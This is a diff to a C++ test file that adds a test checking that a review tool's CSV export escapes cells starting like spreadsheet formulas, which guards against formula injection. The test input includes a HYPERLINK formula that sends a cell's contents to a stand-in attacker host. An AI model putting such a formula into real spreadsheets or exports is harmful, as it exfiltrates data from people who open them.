@@ -1,6 +1,7 @@
 // The lead's tools over a known workspace: transcripts, the scorecard and the dashboard, each
 // figure checked to the number against a fixture written row by row.
 
+#include "review/Csv.h"
 #include "review/Dashboard.h"
 #include "review/ReviewStore.h"
 #include "review/Scorecard.h"
@@ -546,4 +547,34 @@ TEST_CASE("How much of a canned response an agent rewrote is counted in words")
                             QStringLiteral("Thanks for waiting, María")) == 0.25);
     CHECK(Review::editRatio(QStringLiteral("a b c"), QStringLiteral("x y z")) == 1.0);
     CHECK(Review::editRatio(QStringLiteral("a b"), QStringLiteral("a b c d")) == 0.5);
+}
+
+TEST_CASE("A CSV export shows a cell that starts like a formula as text, never as a formula")
+{
+    const QString link = QStringLiteral(R"x(=HYPERLINK("https://evil.example/?d="&A1,"Refund"))x");
+    const QByteArray quotedLink = R"x("'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")")x";
+    CHECK(Review::csvField(link) == quotedLink);
+    CHECK(Review::csvField(QStringLiteral("+1 555 0100")) == "'+1 555 0100");
+    CHECK(Review::csvField(QStringLiteral("-2+3")) == "'-2+3");
+    CHECK(Review::csvField(QStringLiteral("@SUM(A1:A9)")) == "'@SUM(A1:A9)");
+    CHECK(Review::csvField(QStringLiteral("\t=1+1")) == "'\t=1+1");
+    CHECK(Review::csvField(QStringLiteral("\r=1+1")) == "\"'\r=1+1\"");
+    // Only the first character counts; plain text and empty cells stay as they are.
+    CHECK(Review::csvField(QStringLiteral("a = b - c")) == "a = b - c");
+    CHECK(Review::csvField(QStringLiteral("Jane, again")) == "\"Jane, again\"");
+    CHECK(Review::csvField(QString()).isEmpty());
+    CHECK(Review::csvRecord({QStringLiteral("a"), QStringLiteral("=1"), QString()}) ==
+          "a,'=1,\r\n");
+
+    // The dashboard's export: keys that come from outside the team are cells of their own.
+    Review::DashboardFigures figures;
+    figures.byChannel.append({QStringLiteral("@AcmeHelp"), 3});
+    figures.byCategory.append({link, 2});
+    figures.byLanguage.append({QStringLiteral("-en"), 1});
+    const QByteArray csv = Review::dashboardCsv(figures);
+    CHECK(csv.contains("channel,'@AcmeHelp,3\r\n"));
+    CHECK(csv.contains(QByteArray("category," + quotedLink + ",2\r\n")));
+    CHECK(csv.contains("language,'-en,1\r\n"));
+    CHECK_FALSE(csv.contains(",=HYPERLINK"));
+    CHECK_FALSE(csv.contains(",\"=HYPERLINK"));
 }
